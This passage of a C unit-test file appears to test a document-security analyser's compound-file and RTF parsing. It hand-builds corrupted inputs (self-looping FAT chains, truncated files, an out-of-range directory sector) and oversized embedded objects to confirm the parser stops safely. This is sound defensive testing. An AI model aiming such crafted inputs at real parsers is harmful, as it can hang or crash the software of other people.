	parts[0].data = big;
	doc = ole_build(parts, 2, &len);
	assert_int_equal(cfb_open(&c, doc, len, 1 << 20), 0);
	id = cfb_find(&c, "small", CFB_STREAM);
	assert_int_not_equal(id, CFB_NONE);
	{
		char path[64];
		cfb_path(&c, id, path, sizeof(path));
		assert_string_equal(path, "Dir/Small");
	}
	assert_int_equal(cfb_read(&c, id, &s, &slen), 0);
	assert_int_equal(slen, 11);
	assert_memory_equal(s, "tiny stream", 11);
	free(s);
	id = cfb_child(&c, 0, "BIG");
	assert_int_equal(cfb_read(&c, id, &s, &slen), 0);
	assert_int_equal(slen, 8192);
	assert_memory_equal(s, big, 8192);
	free(s);
	cfb_close(&c);
	/* A stream over the cap is refused. */
	assert_int_equal(cfb_open(&c, doc, len, 4096), 0);
	assert_int_equal(cfb_read(&c, cfb_child(&c, 0, "Big"), &s, &slen), WARD_ELIMIT);
	cfb_close(&c);
	free(doc);
}

static void
test_cfb_hostile(void **state)
{
	uint8_t word[512], *doc, *bad;
	size_t len, i, fat;
	struct cfb c;
	struct part parts[] = {{"WordDocument", word, sizeof(word)}};

	(void)state;
	fib(word, sizeof(word), 0);
	doc = ole_build(parts, 1, &len);
	bad = malloc(len);
	assert_non_null(bad);
	/* Every FAT entry pointing to itself: each chain is a loop. */
	memcpy(bad, doc, len);
	fat = ((size_t)(bad[0x4C] | bad[0x4D] << 8) + 1) * 512;
	for (i = 0; i + 4 <= 512; i += 4) {
		uint32_t s = (uint32_t)(i / 4);
		bad[fat + i] = (uint8_t)s;
		bad[fat + i + 1] = (uint8_t)(s >> 8);
		bad[fat + i + 2] = 0;
		bad[fat + i + 3] = 0;
	}
	assert_int_equal(analyse(bad, len, "loop.doc"), 0);
	/* Cut files and a directory pointing at itself end too. */
	for (i = 512; i < len; i += 512)
		assert_int_equal(analyse(doc, i, "cut.doc"), 0);
	memcpy(bad, doc, len);
	bad[0x30] = 0xFF; /* first directory sector outside the file */
	bad[0x31] = 0xFF;
	bad[0x32] = 0x00;
	assert_int_equal(cfb_open(&c, bad, len, len), WARD_EFORMAT);
	assert_int_equal(analyse(bad, len, "nodir.doc"), 0);
	free(bad);
	free(doc);
}

static void
test_limits(void **state)
{
	struct ward_file_limits lim;
	struct ward_file_ctx *small;
	struct ward_buf obj, rtf;
	uint8_t payload[4096];
	int i;

	(void)state;
	ward_file_limits_default(&lim);
	lim.max_total = 2000;
	small = ward_file_ctx_new(&lim);
	assert_non_null(small);
	ward_buf_init(&obj);
	ward_buf_init(&rtf);
	memset(payload, 'A', sizeof(payload));
	ole1(&obj, "Paint.Picture", payload, sizeof(payload));
	ward_buf_adds(&rtf, "{\\rtf1");
	for (i = 0; i < 3; i++) {
		ward_buf_adds(&rtf, "{\\object\\objemb{\\*\\objdata ");
		hex(&rtf, (const uint8_t *)obj.p, obj.len);
		ward_buf_adds(&rtf, "}}");
	}
	ward_buf_adds(&rtf, "}");
	assert_int_equal(ward_file_analyse(small, (const uint8_t *)rtf.p, rtf.len, "x.rtf", &res),
			 0);
	assert_true(res.truncated);
	if (!hit("file.archive.limit", "object1") && !hit("file.archive.limit", "object2")) {
		dump();
		fail();
	}
	assert_true(has_id("file.rtf.object"));
	ward_file_ctx_free(small);
	ward_buf_free(&obj);
	ward_buf_free(&rtf);
}

static int
setup(void **state)
{
	(void)state;
	ctx = ward_file_ctx_new(NULL);
	return ctx ? 0 : -1;
}

static int
teardown(void **state)
{
	(void)state;
	ward_file_ctx_free(ctx);
	return 0;
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_ole2_vba_source),
	    cmocka_unit_test(test_ole2_vba_structure),
	    cmocka_unit_test(test_vba_copy_tokens),
	    cmocka_unit_test(test_docx),
	    cmocka_unit_test(test_docx_clean),
	    cmocka_unit_test(test_docx_unreadable),
	    cmocka_unit_test(test_xlsx_dde_and_xlm),
	    cmocka_unit_test(test_encrypted),
	    cmocka_unit_test(test_ole10native_lnk),
	    cmocka_unit_test(test_rtf_package),
	    cmocka_unit_test(test_rtf_equation_template_dde),
	    cmocka_unit_test(test_rtf_clean),
	    cmocka_unit_test(test_xls_macro_sheet),
	    cmocka_unit_test(test_word_binary_dde),
	    cmocka_unit_test(test_flat_xml),
	    cmocka_unit_test(test_sylk_csv),
	    cmocka_unit_test(test_cfb_reader),
	    cmocka_unit_test(test_cfb_hostile),
	    cmocka_unit_test(test_limits),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
